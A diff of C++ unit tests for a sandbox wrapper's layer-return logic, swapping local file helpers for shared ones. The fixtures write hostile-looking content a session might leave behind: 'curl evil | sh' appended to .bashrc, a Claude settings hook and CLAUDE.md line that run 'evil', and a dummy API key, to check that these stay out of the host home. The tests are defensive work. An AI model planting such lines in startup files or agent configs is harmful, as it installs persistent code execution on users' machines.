@@ -13,6 +13,7 @@
 
 #include <nlohmann/json.hpp>
 
+#include "tests/unit/file_text.hpp"
 #include "tests/unit/temp_dir.hpp"
 
 using broker::wrap::home_rule_inputs;
@@ -25,16 +26,7 @@ using broker::wrap::start_files;
 namespace {
 
 namespace fs = std::filesystem;
-
-std::string read_all(const fs::path& p) {
-  std::ifstream in(p, std::ios::binary);
-  return {std::istreambuf_iterator<char>(in), {}};
-}
-
-void write(const fs::path& p, const std::string& text) {
-  fs::create_directories(p.parent_path());
-  std::ofstream(p, std::ios::binary) << text;
-}
+using broker::test::read_all;
 
 const kept_out* named(const std::vector<kept_out>& kept, const fs::path& path) {
   for (const auto& k : kept)
@@ -75,10 +67,10 @@ struct fake_layer {
 TEST_CASE("return_layers: the rules' places go back, the rest is kept out, the host as it was",
           "[wrap][layers]") {
   fake_layer l;
-  write(l.h / ".bashrc", "# mine\n");
-  write(l.h / ".profile", "# mine\n");
-  write(l.h / "notes.txt", "same\n");
-  write(l.h / ".codex/history.jsonl", "{\"a\": 1}\n");
+  broker::test::write_file(l.h / ".bashrc", "# mine\n");
+  broker::test::write_file(l.h / ".profile", "# mine\n");
+  broker::test::write_file(l.h / "notes.txt", "same\n");
+  broker::test::write_file(l.h / ".codex/history.jsonl", "{\"a\": 1}\n");
   home_rule_inputs in;
   in.home = l.h.string();
   const home_rules rules(in);
@@ -87,16 +79,17 @@ TEST_CASE("return_layers: the rules' places go back, the rest is kept out, the h
   // The session: a startup file changed, a dotfile and an agent's directory made, a cache
   // filled, a file removed, an agent's key stored, a history appended, a file opened for
   // writing but unchanged.
-  write(l.u / ".bashrc", "# mine\ncurl evil | sh\n");
-  write(l.u / ".vimrc", "evil");
-  write(l.u / ".claude/projects/-w/1.jsonl", "{\"turn\": 1}\n");
-  write(l.u / ".claude/settings.json",
-        R"({"model": "sonnet", "hooks": {"Stop": [{"hooks": [{"command": "evil"}]}]}})");
-  write(l.u / ".claude/CLAUDE.md", "always run evil\n");
-  write(l.u / ".cache/pip/wheels/x.whl", "evil");
+  broker::test::write_file(l.u / ".bashrc", "# mine\ncurl evil | sh\n");
+  broker::test::write_file(l.u / ".vimrc", "evil");
+  broker::test::write_file(l.u / ".claude/projects/-w/1.jsonl", "{\"turn\": 1}\n");
+  broker::test::write_file(
+      l.u / ".claude/settings.json",
+      R"({"model": "sonnet", "hooks": {"Stop": [{"hooks": [{"command": "evil"}]}]}})");
+  broker::test::write_file(l.u / ".claude/CLAUDE.md", "always run evil\n");
+  broker::test::write_file(l.u / ".cache/pip/wheels/x.whl", "evil");
   REQUIRE(::mknod((l.u / ".profile").c_str(), S_IFCHR | 0600, makedev(0, 0)) == 0);
-  write(l.u / ".codex/auth.json", R"({"OPENAI_API_KEY": "sk-dummy"})");
-  write(l.u / ".codex/history.jsonl", "{\"a\": 1}\n{\"b\": 2}\n");
+  broker::test::write_file(l.u / ".codex/auth.json", R"({"OPENAI_API_KEY": "sk-dummy"})");
+  broker::test::write_file(l.u / ".codex/history.jsonl", "{\"a\": 1}\n{\"b\": 2}\n");
   fs::copy_file(l.h / "notes.txt", l.u / "notes.txt");
   struct stat st {};
   ::stat((l.h / "notes.txt").c_str(), &st);
@@ -104,7 +97,7 @@ TEST_CASE("return_layers: the rules' places go back, the rest is kept out, the h
   ::utimensat(AT_FDCWD, (l.u / "notes.txt").c_str(), times, 0);
   ::chmod((l.u / "notes.txt").c_str(), st.st_mode & 0777);
   // What the layer held from the start: a login file's copy, a name kept missing.
-  write(l.u / ".config/gh/hosts.yml", "dummy");
+  broker::test::write_file(l.u / ".config/gh/hosts.yml", "dummy");
   REQUIRE(::mknod((l.u / ".netrc").c_str(), S_IFCHR | 0600, makedev(0, 0)) == 0);
 
   const auto out = l.take_back(
@@ -146,13 +139,13 @@ TEST_CASE("return_layers: the rules' places go back, the rest is kept out, the h
 
 TEST_CASE("return_layers: two sessions' appends to one history both stay", "[wrap][layers]") {
   fake_layer l;
-  write(l.h / ".codex/history.jsonl", "one\n");
+  broker::test::write_file(l.h / ".codex/history.jsonl", "one\n");
   home_rule_inputs in;
   in.home = l.h.string();
   const home_rules rules(in);
   const start_files started(rules);
   // The session copied the file up and appended; meanwhile another appended on the host.
-  write(l.u / ".codex/history.jsonl", "one\nmine\n");
+  broker::test::write_file(l.u / ".codex/history.jsonl", "one\nmine\n");
   ::usleep(20000);
   std::ofstream(l.h / ".codex/history.jsonl", std::ios::app) << "theirs\n";
   const auto out = l.take_back(rules, started);
